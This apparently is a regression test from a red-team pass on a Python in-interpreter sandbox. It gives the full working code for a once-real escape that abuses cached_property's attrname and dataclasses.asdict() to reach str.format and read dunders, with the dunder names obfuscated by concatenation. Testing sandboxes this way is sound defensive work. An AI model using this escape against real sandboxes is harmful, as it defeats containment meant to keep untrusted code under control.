# mypy: ignore-errors
# Technique: `functools.cached_property` caches with `instance.__dict__[self.attrname] =`,
# and `attrname` is a public attribute the plugin may set: naming it
# `__dataclass_fields__` wrote a dunder into the plugin's own instance, which
# `dataclasses.fields()`/`asdict()` read before the class's checked fields. Fed a field
# named `format` (legal on the plugin's own class), `asdict()` of a `str` subclass read
# `getattr(obj, "format")`: the unguarded `str.format`, whose template reads dunders.
# Found in the fourth red-team pass of the in-interpreter layer; was a real
# in-interpreter escape (3.11-3.13) before the fix.
import dataclasses
import functools

U = "_" * 2


@dataclasses.dataclass
class Donor:
    format: int = 0


def donor_fields(self):
    return {"format": dataclasses.fields(Donor)[0]}


@dataclasses.dataclass(init=False)
class Text(str):
    stash = functools.cached_property(donor_fields)


def attack(secret_path, canary_path):
    Text.stash.attrname = U + "dataclass_fields" + U
    text = Text("{0." + U + "class" + U + "}")
    assert text.stash  # cached: the dunder is written now
    fmt = dataclasses.asdict(text).get("format")
    if callable(fmt):
        leaked = fmt(1)
        if "int" in leaked:
            print("SANDBOX-" + "ESCAPED")
        return leaked
    return repr(fmt)
